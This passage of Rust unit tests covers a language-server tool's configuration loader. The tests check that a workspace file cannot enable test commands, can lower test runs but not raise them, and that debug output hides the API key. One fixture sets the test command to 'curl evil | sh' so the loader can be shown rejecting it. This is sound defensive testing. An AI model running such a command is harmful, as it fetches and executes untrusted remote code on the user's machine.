            "[tests]\nverify = true\ncommand = \"curl evil | sh\"\ntimeoutSecs = 30\nrepairRounds = 0\n",
        )
        .unwrap();
        let (mut sources, errors) = Sources::load(Some(&root), &|_| None);
        let (config, _) = sources.resolve();
        assert!(!config.tests.verify);
        assert_eq!(config.tests.command, None);
        assert_eq!((config.tests.timeout_secs, config.tests.repair_rounds), (30, 0));
        let keys: Vec<&str> = errors.iter().map(|error| error.key.as_str()).collect();
        assert_eq!(keys, ["tests.verify", "tests.command"]);
        // The user's own settings may.
        sources.initialization_options = json!({"tests": {"verify": true, "command": "make test"}});
        let (config, errors) = sources.resolve();
        assert!(config.tests.verify && errors.is_empty());
        assert_eq!(config.tests.command.as_deref(), Some("make test"));
        std::fs::remove_dir_all(&root).unwrap();
    }

    #[test]
    fn workspace_file_may_ask_for_fewer_test_runs_never_more() {
        let root = std::env::temp_dir().join(format!("glm-lsp-config-runs-{}", std::process::id()));
        std::fs::create_dir_all(&root).unwrap();
        std::fs::write(root.join("glm-lsp.toml"), "[tests]\nreliabilityRuns = 10\ncoverage = true\n").unwrap();
        let (mut sources, _) = Sources::load(Some(&root), &|_| None);
        let (config, errors) = sources.resolve();
        assert_eq!((config.tests.reliability_runs, config.tests.coverage), (3, false));
        let keys: Vec<&str> = errors.iter().map(|error| error.key.as_str()).collect();
        assert_eq!(keys, ["tests.coverage", "tests.reliabilityRuns"]);
        // Fewer runs, coverage off: allowed.
        std::fs::write(root.join("glm-lsp.toml"), "[tests]\nreliabilityRuns = 1\ncoverage = false\n").unwrap();
        let (lowered, _) = Sources::load(Some(&root), &|_| None);
        let (config, errors) = lowered.resolve();
        assert_eq!((config.tests.reliability_runs, config.tests.coverage), (1, false));
        assert!(errors.is_empty(), "{errors:?}");
        // The user's own settings may raise both.
        sources.workspace_file = None;
        sources.initialization_options = json!({"tests": {"reliabilityRuns": 5, "coverage": true}});
        let (config, _) = sources.resolve();
        assert_eq!((config.tests.reliability_runs, config.tests.coverage), (5, true));
        std::fs::remove_dir_all(&root).unwrap();
    }

    #[test]
    fn debug_output_hides_the_key() {
        let config = Config { api_key: Some("sk-very-secret".into()), ..Config::default() };
        assert!(!format!("{config:?}").contains("very-secret"));
    }

    #[test]
    fn actions_accept_a_list_or_an_object() {
        let mut config = Config::default();
        let mut errors = Vec::new();
        config.apply("test", &json!({"actions": [{"title": "Explain", "prompt": "Explain {code}"}]}), &mut errors);
        assert_eq!(config.actions.custom.len(), 1);
        config.apply("test", &json!({"actions": {"resolve": true}}), &mut errors);
        assert!(config.actions.resolve);
        assert!(errors.is_empty());
    }

    #[test]
    fn an_empty_lua_table_is_no_settings() {
        let mut config = Config::default();
        let mut errors = Vec::new();
        config.apply("Neovim", &json!([]), &mut errors);
        config.apply("Neovim", &json!({"completion": [], "context": []}), &mut errors);
        assert!(errors.is_empty(), "{errors:?}");
        config.apply("Neovim", &json!([1]), &mut errors);
        assert_eq!(errors.len(), 1);
    }

    #[test]
    fn completion_style_and_hold() {
        let mut config = Config::default();
        assert_eq!((config.completion.style, config.completion.max_wait_ms), (CompletionStyle::Auto, None));
        let mut errors = Vec::new();
        config.apply("test", &json!({"completion": {"style": "both", "maxWaitMs": 1500}}), &mut errors);
        assert_eq!((config.completion.style, config.completion.max_wait_ms), (CompletionStyle::Both, Some(1500)));
        config.apply("test", &json!({"completion": {"style": "ghost"}}), &mut errors);
        assert_eq!(config.completion.style, CompletionStyle::Both);
        assert!(errors[0].to_string().contains("auto, inline, list, both"), "{errors:?}");
        assert!(CompletionStyle::Auto.inlines(true) && !CompletionStyle::Auto.lists(true));
        assert!(!CompletionStyle::Auto.inlines(false) && CompletionStyle::Auto.lists(false));
    }
}
